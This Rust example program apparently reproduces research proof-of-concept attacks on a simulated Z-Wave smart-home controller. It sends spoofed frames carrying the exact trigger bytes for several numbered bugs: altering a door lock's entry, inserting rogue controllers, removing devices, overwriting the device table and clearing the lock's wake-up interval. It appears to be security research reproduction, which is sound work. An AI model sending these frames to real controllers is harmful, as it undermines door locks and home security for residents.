//! The memory-tampering proof-of-concept attacks of Figures 8-11.
//!
//! ```text
//! cargo run --release --example memory_tampering
//! ```
//!
//! Reproduces, with before/after device-table dumps:
//! * Figure 8 / bug #01 — the door lock's entry is flipped to "routing
//!   slave";
//! * Figure 9 / bug #02 — rogue controllers #10 and #200 are inserted;
//! * Figure 10 / bug #03 — devices #2 and #3 are removed;
//! * Figure 11 / bug #04 — the device table is overwritten with fakes;
//! * bug #12 — the lock's wake-up interval is cleared.

use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed};
use zcover_suite::zwave_controller::HomeNetwork;
use zcover_suite::zwave_protocol::{MacFrame, NodeId};

fn inject(
    home: &mut HomeNetwork,
    attacker: &zcover_suite::zwave_radio::Transceiver,
    params: &[u8],
) {
    let mut payload = vec![0x01, 0x0D];
    payload.extend_from_slice(params);
    let frame = MacFrame::singlecast(
        home.controller().home_id(),
        NodeId(0x03), // spoofed source
        NodeId(0x01),
        payload,
    );
    attacker.transmit(&frame.encode());
    home.pump();
}

fn main() {
    let mut home = Testbed::new(DeviceModel::D6, 11);
    let attacker = home.attach_attacker(70.0);
    println!("initial device table:\n{}", home.controller().nvm().dump());

    // Figure 8 — bug #01: change device #2 (the S2 door lock) to a
    // routing slave.
    inject(&mut home, &attacker, &[0x02, 0x04]);
    println!(
        "after [0x01 0x0D 0x02 0x04] (bug #01, memory tampering):\n{}",
        home.controller().nvm().dump()
    );

    // Bug #12: clear the lock's wake-up interval.
    let mut home = Testbed::new(DeviceModel::D6, 11);
    let attacker = home.attach_attacker(70.0);
    inject(&mut home, &attacker, &[0x02, 0x00]);
    println!(
        "after [0x01 0x0D 0x02 0x00] (bug #12, wake-up interval removed):\n{}",
        home.controller().nvm().dump()
    );

    // Figure 9 — bug #02: insert rogue controllers #10 and #200.
    let mut home = Testbed::new(DeviceModel::D6, 11);
    let attacker = home.attach_attacker(70.0);
    inject(&mut home, &attacker, &[10, 0x01]);
    inject(&mut home, &attacker, &[200, 0x01]);
    println!(
        "after inserting rogue ids #10 and #200 (bug #02):\n{}",
        home.controller().nvm().dump()
    );

    // Figure 10 — bug #03: remove devices #2 and #3.
    let mut home = Testbed::new(DeviceModel::D6, 11);
    let attacker = home.attach_attacker(70.0);
    inject(&mut home, &attacker, &[0x02]);
    inject(&mut home, &attacker, &[0x03]);
    println!("after removing devices #2 and #3 (bug #03):\n{}", home.controller().nvm().dump());

    // Figure 11 — bug #04: overwrite the whole database.
    let mut home = Testbed::new(DeviceModel::D6, 11);
    let attacker = home.attach_attacker(70.0);
    inject(&mut home, &attacker, &[0xFF]);
    println!("after the database overwrite (bug #04):\n{}", home.controller().nvm().dump());

    println!("fault log of the last run:");
    for record in home.controller().fault_log().records() {
        println!(
            "  t={:.3}s bug #{:02} {} (trigger {:02X?})",
            record.at.as_secs_f64(),
            record.bug_id,
            record.effect,
            record.trigger
        );
    }
}
